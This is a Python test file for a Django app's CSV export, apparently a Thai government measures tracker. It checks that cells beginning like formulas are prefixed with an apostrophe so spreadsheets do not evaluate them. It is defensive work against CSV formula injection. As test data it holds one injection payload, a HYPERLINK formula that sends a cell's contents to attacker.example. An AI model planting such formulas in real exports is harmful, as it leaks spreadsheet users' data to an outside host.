"""The CSV export: cells a spreadsheet would run as formulas are neutralised."""

import csv
import io

from django.urls import reverse

from prongsai.measures import services


def test_csv_export_cells_never_run_as_formulas(demo, coordinator, viewer, as_user):
    services.create_measure(
        actor=coordinator,
        agency=demo,
        fiscal_year=2565,
        title='=HYPERLINK("http://attacker.example/?d="&B3,"x")',
        steps=["-ขั้นตอน", "+1"],
        divisions=list(demo.divisions.all()[:1]),
    )
    response = as_user(viewer).get(reverse("export_csv", args=["ummao", 2565]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["ลำดับ", "มาตรการ", "ขั้นตอนหรือวิธีการ"]
    added = rows[-1]
    # A cell that starts like a formula is prefixed with an apostrophe: shown as text,
    # never evaluated. The steps share one cell, so only its start matters.
    assert added[1] == '\'=HYPERLINK("http://attacker.example/?d="&B3,"x")'
    assert added[2] == "'-ขั้นตอน\n+1"
    # Ordinary cells are left as they are.
    assert added[0] == "7" and added[3] == "สำนักปลัด"
    assert rows[1][1] and not rows[1][1].startswith("'")
